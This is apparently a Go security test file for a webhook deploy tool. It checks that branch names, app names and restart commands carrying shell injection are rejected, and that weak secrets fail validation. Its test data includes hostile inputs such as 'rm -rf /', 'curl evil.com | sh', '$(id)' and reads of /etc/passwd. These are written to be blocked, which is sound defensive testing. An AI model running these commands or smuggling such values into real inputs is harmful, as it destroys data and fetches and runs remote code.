package security

import (
	"strings"
	"testing"

	"pullhook/internal/security"
)

// TestBranchNameInjectionPrevention validates branch name sanitization
func TestBranchNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		branch    string
		wantError bool
		errorMsg  string
	}{
		{
			name:      "valid branch name",
			branch:    "main",
			wantError: false,
		},
		{
			name:      "valid branch with slash",
			branch:    "feature/new-feature",
			wantError: false,
		},
		{
			name:      "valid branch with dash",
			branch:    "fix-bug-123",
			wantError: false,
		},
		{
			name:      "command injection with semicolon",
			branch:    "main; rm -rf /",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with pipe",
			branch:    "main | cat /etc/passwd",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with ampersand",
			branch:    "main && curl evil.com",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "branch starting with dash",
			branch:    "-main",
			wantError: true,
			errorMsg:  "cannot start with '-'",
		},
		{
			name:      "empty branch name",
			branch:    "",
			wantError: true,
			errorMsg:  "cannot be empty",
		},
		{
			name:      "branch with backticks",
			branch:    "main`whoami`",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "branch with command substitution",
			branch:    "main$(id)",
			wantError: true,
			errorMsg:  "invalid characters",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateBranchName(tt.branch)

			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for branch %s, but got none", tt.branch)
				} else if !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
				}
			} else {
				if err != nil {
					t.Errorf("Expected no error for branch %s, but got: %v", tt.branch, err)
				}
			}
		})
	}
}

// TestAppNameInjectionPrevention validates app name sanitization
func TestAppNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		app       string
		wantError bool
		errorMsg  string
	}{
		{
			name:      "valid app name",
			app:       "my-app",
			wantError: false,
		},
		{
			name:      "valid with underscore",
			app:       "my_app",
			wantError: false,
		},
		{
			name:      "command injection with semicolon",
			app:       "app; rm -rf /",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with pipe",
			app:       "app | cat /etc/passwd",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "path traversal",
			app:       "../../../etc/passwd",
			wantError: true,
			errorMsg:  "cannot start with '-' or '.'",
		},
		{
			name:      "slash in name",
			app:       "app/name",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "empty app name",
			app:       "",
			wantError: true,
			errorMsg:  "cannot be empty",
		},
		{
			name:      "app with backticks",
			app:       "app`whoami`",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "app starting with dash",
			app:       "-app",
			wantError: true,
			errorMsg:  "cannot start with '-'",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateAppName(tt.app)

			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for app %s, but got none", tt.app)
				} else if !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
				}
			} else {
				if err != nil {
					t.Errorf("Expected no error for app %s, but got: %v", tt.app, err)
				}
			}
		})
	}
}

// TestRestartCommandInjectionPrevention validates that restart commands from
// the config cannot smuggle shell syntax past the allow-list
func TestRestartCommandInjectionPrevention(t *testing.T) {
	executor := security.NewSandboxedExecutor("")

	tests := []struct {
		name      string
		parts     []string
		wantError bool
	}{
		{
			name:      "legitimate systemctl restart",
			parts:     []string{"sudo", "systemctl", "restart", "gunicorn"},
			wantError: false,
		},
		{
			name:      "legitimate supervisorctl restart",
			parts:     []string{"supervisorctl", "restart", "api"},
			wantError: false,
		},
		{
			name:      "shell as restart command",
			parts:     []string{"sh", "-c", "curl evil.com | sh"},
			wantError: true,
		},
		{
			name:      "sudo wrapping a shell",
			parts:     []string{"sudo", "bash", "-c", "id"},
			wantError: true,
		},
		{
			name:      "semicolon chained command",
			parts:     []string{"systemctl", "restart", "app;curl", "evil.com"},
			wantError: true,
		},
		{
			name:      "output redirection",
			parts:     []string{"systemctl", "restart", "app>/etc/passwd"},
			wantError: true,
		},
		{
			name:      "variable expansion",
			parts:     []string{"systemctl", "restart", "$SERVICE"},
			wantError: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := executor.ValidateCommandParts(tt.parts)

			if tt.wantError && err == nil {
				t.Errorf("Expected %v to be rejected, but it was allowed", tt.parts)
			}
			if !tt.wantError && err != nil {
				t.Errorf("Expected %v to be allowed, but got: %v", tt.parts, err)
			}
		})
	}
}

// TestWeakSecretRejection validates enhanced secret validation
func TestWeakSecretRejection(t *testing.T) {
	tests := []struct {
		name      string
		secret    string
		wantError bool
		errorMsg  string
	}{
		{
			name:      "strong random secret",
			secret:    "aB3#xY9$mN2@qW5!kL8%pR7&tU4^vZ1*jH6(fG0)sD-Xy9!Zw",
			wantError: false,
		},
		{
			name:      "secret too short",
			secret:    "topsecret",
			wantError: true,
			errorMsg:  "too short",
		},
		{
			name:      "forbidden placeholder secret",
			secret:    "replace-with-secret-abcdefghijklmnopqrstuvwxyzAB",
			wantError: true,
			errorMsg:  "placeholder",
		},
		{
			name:      "forbidden password",
			secret:    "password-abcdefghijklmnopqrstuvwxyz1234567890ABC",
			wantError: true,
			errorMsg:  "placeholder",
		},
		{
			name:      "forbidden changeme",
			secret:    "changeme-value-that-is-long-enough-but-still-weak-here",
			wantError: true,
			errorMsg:  "placeholder",
		},
		{
			name:      "low entropy (repeating chars)",
			secret:    strings.Repeat("a", 52),
			wantError: true,
			errorMsg:  "insufficient entropy",
		},
		{
			name:      "low entropy (sequential)",
			secret:    "123456789012345678901234567890123456789012345678",
			wantError: true,
			errorMsg:  "insufficient entropy",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateSecret(tt.secret)

			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for secret, but got none")
				} else if !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
				}
			} else {
				if err != nil {
					t.Errorf("Expected no error for secret, but got: %v", err)
				}
			}
		})
	}
}

// TestGenerateSecretSecurity validates generated secrets are strong and unique
func TestGenerateSecretSecurity(t *testing.T) {
	for i := 0; i < 10; i++ {
		secret, err := security.GenerateSecret()
		if err != nil {
			t.Fatalf("Failed to generate secret: %v", err)
		}

		if err := security.ValidateSecret(secret); err != nil {
			t.Errorf("Generated secret failed validation: %v", err)
		}

		if len(secret) < security.MinSecretLength {
			t.Errorf("Generated secret too short: %d < %d", len(secret), security.MinSecretLength)
		}
	}

	secrets := make(map[string]bool)
	for i := 0; i < 100; i++ {
		secret, _ := security.GenerateSecret()
		if secrets[secret] {
			t.Error("Generated duplicate secret")
		}
		secrets[secret] = true
	}
}
